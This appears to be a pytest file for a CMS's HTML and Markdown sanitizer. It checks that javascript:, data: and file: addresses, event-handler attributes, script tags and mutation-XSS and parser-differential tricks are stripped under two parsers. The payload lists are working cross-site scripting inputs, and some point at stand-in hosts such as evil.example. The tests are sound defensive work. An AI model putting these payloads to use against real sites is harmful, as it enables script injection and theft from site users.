"""What hostile text becomes: nothing but what the policy allows, whatever the parser.

The output is read by parsers that took no part in making it.
"""

import html as html_module
from html.parser import HTMLParser

import nh3
import pytest
from bleach import html5lib_shim

from cms.errors import Rejected
from cms.rendering import bleaching, bounds, permitted, pipeline, policy, sanitizer, taming

SCRIPT_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#106avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "blob:https://example.com/x",
    "filesystem:https://example.com/x",
    "view-source:javascript:alert(1)",
    "livescript:alert(1)",
    "jar:https://example.com!/x",
    "feed:javascript:alert(1)",
    "\\javascript:alert(1)",
    "file:///etc/passwd",
]

TAGS_WITH_CODE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' srcset='javascript:alert(1) 1x'>",
    "<img src=x style=background:url(javascript:alert(1))>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<style>@import 'https://evil.example/x';</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><option><script>alert(1)</script></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<selectedcontent><img src=x onerror=alert(1)></selectedcontent>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<a href=x ping=https://evil.example/>x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<a\nhref='javascript:alert(1)'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href='javascript:alert(1)' href='https://example.com'>x</a>",
    '<a href="https://example.com/"onmouseover="alert(1)">x</a>',
    "<a b='\"><img src=x onerror=alert(1)>'>x</a>",
    "<p title='</p><img src=x onerror=alert(1)>'>x</p>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<unknown><img src=x onerror=alert(1)></unknown>",
    "<blink><unknown><script>alert(1)</script></unknown></blink>",
    "<p is=evil>x</p>",
    "<p slot=evil part=evil>x</p>",
    "<div popover popovertarget=x>x</div>",
    "<p data-controller=evil>x</p>",
    "<p hx-get=/admin hx-trigger=load>x</p>",
    "<p class='admin-panel hidden'>x</p>",
    "<p id=csrf-token>x</p>",
    "<img name=cookie src=x>",
    "<a id=default-view name=body>x</a>",
    "<img lowsrc=javascript:alert(1) src=x>",
    "<dialog open>x</dialog>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "</p><script>alert(1)</script><p>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    "<a><table><a><img src=x onerror=alert(1)></table>",
    "<table><td><form><td><img src=x onerror=alert(1)>",
    "<p><svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)",
    "<\x00script>alert(1)</script>",
    "<img src=x\x00onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<details><summary><script>alert(1)</script></summary></details>",
    "<figure><figcaption><iframe></figcaption></figure>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<img width='1\" onload=\"alert(1)' src=x>",
    "<td colspan='1000000000'>x</td>",
    "<img src=entry:1>",
    "<a href='media:../../admin'>x</a>",
]

MARKDOWN = [
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    '[x](https://example.com "\\"onclick=alert(1)")',
    "[x](https://example.com '\"><script>alert(1)</script>')",
    '![x" onerror="alert(1)](x)',
    '![x](x"onerror=alert(1))',
    "[<script>alert(1)</script>](x)",
    "## <img src=x onerror=alert(1)>",
    '## x" onclick="alert(1)',
    "# `<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~ x' onclick='alert(1)\nx\n~~~",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    '[^x" onclick="a]\n\n[^x" onclick="a]: y',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "- [x] <img src=x onerror=alert(1)>",
    "/// note | <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n///",
    "/// note\n    attrs: {onclick: alert(1)}\n\nx\n///",
    '/// "><script> | x\nx\n///',
    '/// embed | "><script>alert(1)</script>\nhttps://youtu.be/dQw4w9WgXcQ\n///',
    "/// embed\n    url: javascript:alert(1)\n\nx\n///",
    '/// figure | <img src=x onerror=alert(1)>\n    width: x" onclick="a\n\n![x](x)\n///',
    'https://example.com/"onclick=alert(1)',
    "https://example.com/<script>alert(1)</script>",
    '<https://example.com/"onclick=alert(1)>',
    "Term\n:   <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "**<script>**alert(1)</script>",
    '<a href="`x`" onclick=alert(1)>',
    '`<a href="`" onclick="alert(1)">x',
    "x\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 <b>x</b>",
    "<div markdown=1>\n<script>alert(1)</script>\n</div>",
    "{: onclick=alert(1) }",
    "x {onclick=alert(1)}",
]

PAYLOADS = [
    *TAGS_WITH_CODE,
    *MARKDOWN,
    *(f'<a href="{address}">x</a>' for address in SCRIPT_ADDRESSES),
    *(f"[x]({address})" for address in SCRIPT_ADDRESSES),
    *(f'<img src="{address}">' for address in SCRIPT_ADDRESSES),
]


class Reader(HTMLParser):
    """Collects what a parser that we do not use sees in the HTML."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def elements_of(text: str) -> list[tuple[str, dict[str, str]]]:
    """What html5lib sees: bleach's copy of it, with no tag kept from it."""
    parser = html5lib_shim.BleachHTMLParser(
        tags=None, strip=False, consume_entities=True, namespaceHTMLElements=False
    )
    tree = parser.parseFragment(text)
    return [(str(each.tag), dict(each.attrib)) for each in tree.iter() if each is not tree]


def dom(text: str) -> object:
    """The tree of the HTML, newlines at the start of `pre` apart."""
    parser = html5lib_shim.BleachHTMLParser(
        tags=None, strip=False, consume_entities=True, namespaceHTMLElements=False
    )

    def shape(element):
        return (
            str(element.tag),
            tuple(sorted(element.attrib.items())),
            (element.text or "").lstrip("\n"),
            tuple(shape(child) for child in element),
            element.tail or "",
        )

    return shape(parser.parseFragment(text))


def ensure_within_policy(text: str) -> None:
    read = Reader(text)
    assert not read.others
    for tag, attributes in [*read.elements, *elements_of(text)]:
        assert tag in policy.TAGS, tag
        for name, value in attributes.items():
            assert permitted.keep_attribute(tag, name, value), (tag, name, value)
            assert not name.startswith("on")
            if name in ("href", "src"):
                plain = "".join(html_module.unescape(value).split()).lower()
                for scheme in ("javascript:", "vbscript:", "data:", "blob:", "file:"):
                    assert scheme not in plain.split("?")[0].split("#")[0][:40], value


def test_the_corpus_is_large_enough_to_mean_something():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_outside_the_policy_comes_through(payload):
    for source in (payload, f"before {payload} after", f"> - {payload}", f"<div>\n{payload}"):
        result = str(pipeline.render(source).html)
        ensure_within_policy(result)
        assert dom(nh3_again(result)) == dom(result)
        assert sanitizer.clean(result, Free()) == result


def nh3_again(text: str) -> str:
    return sanitizer._nh3(True).clean(text)


class Free:
    def tick(self):
        """There is no end to the time of a test."""


@pytest.mark.parametrize("payload", TAGS_WITH_CODE)
def test_raw_html_of_an_import_is_cleaned_alone_too(payload):
    once = sanitizer.clean(payload, Free())
    ensure_within_policy(once)
    assert sanitizer.clean(once, Free()) == once


@pytest.mark.parametrize("payload", PAYLOADS)
def test_bleach_and_nh3_agree_on_what_is_left(payload):
    after_bleach = bleaching.bleach(Free(), True).clean(taming.tame(payload))
    assert dom(nh3_again(after_bleach)) == dom(after_bleach)


def test_the_lists_hold_none_of_the_elements_that_open_ways_around():
    never = policy.words(
        """
        svg math style script noscript template slot title textarea xmp iframe noembed noframes
        plaintext frame frameset object embed applet form input button select option optgroup
        selectedcontent dialog portal base link meta audio video
        """
    )
    assert not policy.TAGS & never


def test_no_attribute_runs_code_or_styles():
    never = policy.words(
        """
        style srcset name ping formaction target popover popovertarget command commandfor is part
        slot xmlns action background poster data srcdoc
        """
    )
    for names in policy.ATTRIBUTES.values():
        assert not names & never
        assert not [name for name in names if name.startswith(("on", "data-", "hx-", "aria-"))]


@pytest.mark.parametrize(
    "kept",
    [
        '<p>a <strong>b</strong> <a href="https://example.com/?a=1&amp;b=2" title="t">c</a></p>',
        '<a href="mailto:ada@example.com">m</a> <a href="tel:+123">t</a> <a href="#c-x">x</a>',
        '<a href="entry:01A#c-x">e</a> <a href="term:1">t</a> <a href="profile:1">p</a>',
        '<img src="media:01A" alt="a" width="3" height="4" loading="lazy">',
        '<ol start="3" reversed=""><li>a</li></ol>',
        '<details open=""><summary>s</summary>t</details>',
        '<table><tbody><tr><td colspan="2" class="align-left">x</td></tr></tbody></table>',
        '<p lang="de" dir="ltr">x</p>',
        '<kbd>k</kbd><samp>s</samp><var>v</var><abbr title="t">a</abbr><q>q</q><cite>c</cite>',
        "a &lt; b &amp;&amp; c &gt; d",
        "é — 数据 😀",
    ],
)
def test_what_the_policy_allows_passes_unchanged(kept):
    assert sanitizer.clean(kept, Free()) == kept


def test_the_content_of_removed_elements_is_cleaned_like_the_rest():
    assert sanitizer.clean("<unknown><b onclick=x>t</b></unknown>", Free()) == "<b>t</b>"


def test_without_ids_no_id_is_left():
    assert sanitizer.clean('<p id="c-x">y</p>', Free(), ids=False) == "<p>y</p>"


@pytest.mark.parametrize(
    "moved",
    ["<li><table><p><li>", "<p><table><p>", "<table><td><table><li><td>", "<b><table><i><p>"],
)
def test_elements_where_none_may_stand_are_read_until_they_stay(moved):
    once = sanitizer.clean(moved, Free())
    assert sanitizer.clean(once, Free()) == once


def test_an_unfinished_comment_hides_nothing():
    assert "seen" in sanitizer.clean("a <!-- b seen", Free())


@pytest.mark.parametrize("text", ["<div>" * 300, "<b>" * 300, "<ul><li>" * 200, "<q>" * 200])
def test_what_stands_too_deep_is_refused(text):
    with pytest.raises(bounds.OutOfBounds):
        sanitizer.clean(text, Free())
    with pytest.raises(Rejected) as refusal:
        pipeline.render(text)
    assert "inside each other" in refusal.value.message


def test_many_unclosed_paragraphs_are_not_deep():
    assert sanitizer.clean("<p>a" * 500, Free()).count("<p>") == 500


def test_nh3_is_new_enough_to_be_the_second_opinion():
    assert tuple(int(part) for part in nh3.__version__.split(".")[:3]) >= (0, 3, 7)
